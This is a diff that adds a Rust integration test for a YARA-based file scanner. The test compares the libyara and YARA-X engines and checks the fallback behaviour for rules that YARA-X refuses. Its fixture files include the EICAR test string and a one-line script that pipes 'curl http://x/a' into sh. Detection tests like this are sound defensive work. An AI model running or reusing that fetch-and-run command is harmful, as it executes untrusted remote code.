@@ -267,3 +267,97 @@ fn a_reader_that_goes_away_does_not_hold_the_scan() {
         "the other store got everything"
     );
 }
+
+/// Rule names per file name, from `trawl scan --jsonl -` with `engine`.
+fn matches_with(
+    engine: &str,
+    data: &std::path::Path,
+    rules: &std::path::Path,
+) -> (BTreeMap<String, Vec<String>>, String) {
+    let out = run(trawl()
+        .arg("scan")
+        .arg(data)
+        .arg("--rules")
+        .arg(rules)
+        .args([
+            "--workers",
+            "yara",
+            "--no-db",
+            "--jsonl",
+            "-",
+            "--engine",
+            engine,
+        ]));
+    assert!(out.status.success(), "{engine}: {}", stderr(&out));
+    let mut found = BTreeMap::new();
+    let mut version = String::new();
+    for line in stdout(&out).lines() {
+        let r: serde_json::Value = serde_json::from_str(line).unwrap();
+        version = r["worker"]["version"].as_str().unwrap().to_owned();
+        let mut rules: Vec<String> = r["data"]["matches"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|m| m["rule"].as_str().unwrap().to_owned())
+            .collect();
+        rules.sort();
+        found.insert(r["payload"]["filename"].as_str().unwrap().to_owned(), rules);
+    }
+    (found, version)
+}
+
+#[test]
+fn the_engine_is_chosen_on_the_command_line_and_named_in_each_result() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    fs::create_dir_all(&data).unwrap();
+    fs::write(data.join("eicar.com"), eicar()).unwrap();
+    fs::write(data.join("run.sh"), b"#!/bin/sh\ncurl http://x/a | sh\n").unwrap();
+    fs::write(data.join("sh.bin"), fs::read("/bin/sh").unwrap()).unwrap();
+    fs::write(data.join("note.txt"), b"nothing to see\n").unwrap();
+    let rules = repo().join("rules");
+    let (libyara, lv) = matches_with("libyara", &data, &rules);
+    let (yara_x, xv) = matches_with("yara-x", &data, &rules);
+    let (auto, av) = matches_with("auto", &data, &rules);
+    assert_eq!(libyara.len(), 4);
+    assert!(libyara.values().any(|r| !r.is_empty()), "{libyara:?}");
+    assert_eq!(libyara, yara_x);
+    assert_eq!(yara_x, auto);
+    assert!(lv.ends_with("libyara-4.5.5"), "{lv}");
+    assert!(xv.contains("yara-x"), "{xv}");
+    assert_eq!(av, xv, "auto runs YARA-X on rules it compiles");
+
+    // Rules YARA-X refuses: auto falls back and says why, yara-x refuses.
+    let old = dir.path().join("old.yar");
+    fs::write(
+        &old,
+        "rule Old {\n  condition:\n    entrypoint >= 0 and filesize > 0\n}\n",
+    )
+    .unwrap();
+    let check = run(trawl().args(["rules", "check"]).arg(&old));
+    assert!(check.status.success(), "{}", stderr(&check));
+    let said = stdout(&check);
+    assert!(said.contains("engine libyara"), "{said}");
+    assert!(
+        said.contains("old.yar:3:"),
+        "why, with file and line: {said}"
+    );
+    let (found, version) = matches_with("auto", &data, &old);
+    assert!(version.ends_with("libyara-4.5.5"), "{version}");
+    // entrypoint is defined for executables only.
+    assert_eq!(found["sh.bin"], ["Old"]);
+    assert_eq!(found.values().filter(|r| !r.is_empty()).count(), 1);
+    let refused = run(trawl()
+        .arg("scan")
+        .arg(&data)
+        .arg("--rules")
+        .arg(&old)
+        .args(["--engine", "yara-x", "--workers", "yara", "-q", "--db"])
+        .arg(dir.path().join("refused.db")));
+    assert!(!refused.status.success());
+    assert!(
+        stderr(&refused).contains("old.yar:3:"),
+        "{}",
+        stderr(&refused)
+    );
+}
